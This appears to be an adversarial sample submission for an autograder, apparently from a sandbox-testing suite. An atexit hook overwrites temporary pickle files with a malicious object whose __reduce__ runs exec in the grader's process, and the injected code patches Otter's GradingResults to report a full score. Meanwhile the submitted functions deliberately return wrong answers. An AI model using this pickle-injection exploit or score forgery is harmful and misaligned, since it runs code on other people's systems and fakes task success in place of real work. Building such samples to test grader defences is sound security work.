# ---
# attack: "Leaves pickled results that run code in the grader's process when it loads them."
# class: "pickles in results, checkpoints, logs"
# sandboxes: [namespaces]
# ---
# %% before="q1"
import atexit
import glob
import os
import pickle
import tempfile

CODE = """
from otter.test_files import GradingResults
GradingResults.to_gradescope_dict = lambda self, config: {
    "tests": [{"name": "q1", "score": 100, "max_score": 3}], "score": 100,
}
results = GradingResults([])
"""


class Bomb:
    def __reduce__(self):
        return eval, (f"(space := {{}}, exec({CODE!r}, space), space['results'])[2]",)


def change():
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "tmp*.pkl")):
        with open(path, "wb") as file:
            pickle.dump(Bomb(), file)


atexit.register(change)


# %% question="q1"
def double(x):
    return np.asarray(x) - 100


# %% question="q2"
def shifted(x):
    return np.asarray(x) - 100
